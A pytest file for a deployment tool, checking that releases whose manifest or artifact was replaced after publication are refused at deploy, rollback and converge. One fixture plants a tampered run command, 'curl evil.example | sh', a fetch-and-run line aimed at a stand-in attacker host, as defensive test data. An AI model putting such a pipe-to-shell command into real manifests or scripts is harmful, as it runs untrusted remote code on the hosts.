"""Published bytes stay what runs: a manifest or an artifact that somebody replaced in the bucket is refused."""

import hashlib
from dataclasses import replace

import pytest

from lifecycle.application.rollout.plan import preview
from lifecycle.application.rollout.recorded_bytes import recorded_bytes
from lifecycle.domain.rollout.deployment import DeploymentState, Kind
from lifecycle.domain.service.manifest import Manifest, Run
from lifecycle.domain.service.published import Published, foreign_bytes
from lifecycle.domain.service.target import Target
from tests.fakes.catalogue import MemoryCatalogue
from tests.support.converging import converge
from tests.support.rollout import CLUSTER, Machine, manifest

EVIL = b"other bytes"
SNAPSHOT = "1.0.0-20261123100000-aaaaaaa"


@pytest.fixture
def machine() -> Machine:
    made = Machine()
    made.deploy("1.0.0")
    return made


def with_command(machine: Machine, version: str) -> Manifest:
    """Replace a version's manifest by one with another command for the same bytes."""
    own = machine.memory.artifacts.manifest("hello", version)
    found = replace(own, run=Run("curl evil.example | sh", 8080), policies={})
    machine.memory.artifacts.replace_manifest(found)
    return found


def with_bytes(machine: Machine, version: str) -> None:
    """Replace a version's artifact, and its manifest with it."""
    own = machine.memory.artifacts.manifest("hello", version)
    digest = hashlib.sha256(EVIL).hexdigest()
    machine.memory.artifacts.replace_manifest(replace(own, digest=digest, size=len(EVIL)))
    machine.memory.artifacts.put_foreign("hello", version, EVIL)


def why(machine: Machine, version: str, kind: Kind = Kind.DEPLOY) -> str:
    """Return why a version is refused."""
    return "; ".join(preview(machine.context, machine.request(version, kind)).blockers)


@pytest.mark.parametrize(("replaced", "what"), [(with_command, "manifest"), (with_bytes, "artifact")])
@pytest.mark.parametrize("kind", [Kind.DEPLOY, Kind.ROLLBACK, Kind.CONVERGE])
def test_replaced_release_is_not_planned(machine: Machine, replaced: object, what: str, kind: Kind) -> None:
    assert callable(replaced)
    replaced(machine, "1.0.1")
    found = why(machine, "1.0.1", kind)
    assert f"1.0.1 is not what was published: its {what} was sha256 " in found
    assert "restore the earlier object in the versioned bucket, or deploy another version" in found
    machine.begin(machine.request("1.0.1", kind))
    assert set(machine.installed().values()) == {"1.0.0"}


def test_version_with_values_that_no_lifecycle_toml_has_is_not_deployed(machine: Machine) -> None:
    """It was published before manifests had limits: its agents would wait for years to stop it."""
    machine.publish(manifest("1.0.3", run=Run("python3 app.py", 8080, stop_seconds=1e9)))
    assert why(machine, "1.0.3") == (
        "1.0.3 has values that lifecycle.toml refuses: run.stop_seconds: "
        "expected a number of seconds from 0 to 300, found 1000000000.0"
    )
    machine.begin(machine.request("1.0.3"))
    assert set(machine.installed().values()) == {"1.0.0"}


def test_verified_version_that_was_replaced_is_no_rollback_target(machine: Machine) -> None:
    machine.deploy("1.0.1")
    with_bytes(machine, "1.0.0")
    assert "1.0.0 is not what was published" in why(machine, "1.0.0", Kind.ROLLBACK)
    assert set(machine.installed().values()) == {"1.0.1"}


def test_joining_host_is_not_repaired_with_replaced_bytes(machine: Machine) -> None:
    with_command(machine, "1.0.0")
    machine.join("host-9")
    converge(machine)
    machine.run_what_waited()
    assert machine.installed()["host-9"] == ""


def test_version_that_nobody_published_is_not_planned(machine: Machine) -> None:
    made = manifest("1.0.9")
    machine.memory.artifacts.replace_manifest(made)
    machine.memory.artifacts.put_foreign("hello", "1.0.9", b"1.0.9")
    assert "1.0.9 is in the artifact store, but the ledger has no record" in why(machine, "1.0.9")


def test_every_command_to_a_host_names_the_manifest(machine: Machine) -> None:
    machine.stop_at = "UPDATE_HOSTS"
    record = machine.record(machine.deploy("1.0.1"))
    found = machine.memory.artifacts.stored_manifest("hello", "1.0.1").sha256
    assert (record.target.manifest, machine.turn("host-1").manifest) == (found, found)
    desired = machine.memory.registry.desired(CLUSTER)
    assert desired is not None
    assert desired.manifest == found


def test_version_from_before_manifests_were_recorded_is_deployed_as_its_snapshot_was_recorded() -> None:
    machine, catalogue = Machine(), MemoryCatalogue()
    machine.context = replace(machine.context, catalogue=catalogue)
    own = machine.memory.artifacts.manifest("hello", "1.0.0")
    catalogue.record_snapshot("hello", SNAPSHOT, {"digest": own.digest})
    catalogue.claim_release("hello", SNAPSHOT, "1.0.0")
    assert why(machine, "1.0.0") == ""
    with_bytes(machine, "1.0.0")
    assert "1.0.0 is not what was published: its artifact" in why(machine, "1.0.0")


def test_manifest_of_such_a_version_stays_what_was_verified_first() -> None:
    verified = Target("1.0.0", "a" * 64, manifest="b" * 64)
    known, found = Published("a" * 64), Published("a" * 64, "c" * 64)
    assert "1.0.0 is not what was verified on every host: its manifest" in foreign_bytes(
        "1.0.0", found, known, verified
    )
    assert foreign_bytes("1.0.0", Published("a" * 64, "b" * 64), known, verified) == ""
    assert foreign_bytes("1.0.0", found, known, Target("1.0.0", "a" * 64)) == ""


def test_record_that_was_lost_is_replaced_by_what_was_verified() -> None:
    verified = Target("1.0.0", "a" * 64, manifest="b" * 64)
    assert foreign_bytes("1.0.0", Published("a" * 64, "b" * 64), None, verified) == ""
    assert "verified" in foreign_bytes("1.0.0", Published("a" * 64, "c" * 64), None, verified)


def test_digests_of_a_snapshot_from_before_are_those_of_its_record() -> None:
    catalogue = MemoryCatalogue()
    catalogue.record_snapshot("hello", SNAPSHOT, {"digest": "d" * 64})
    assert recorded_bytes(catalogue, "hello", SNAPSHOT) == Published("d" * 64)
    assert recorded_bytes(catalogue, "hello", "1.0.0") is None


def test_manifest_that_is_replaced_after_the_plan_is_not_taken(machine: Machine) -> None:
    machine.stop_at = "UPDATE_HOSTS"
    record = machine.record(machine.deploy("1.0.1"))
    assert machine.context.artifacts.has_artifact(record.target, "hello")
    with_command(machine, "1.0.1")
    assert not machine.context.artifacts.has_artifact(record.target, "hello")
    assert record.state is DeploymentState.RUNNING
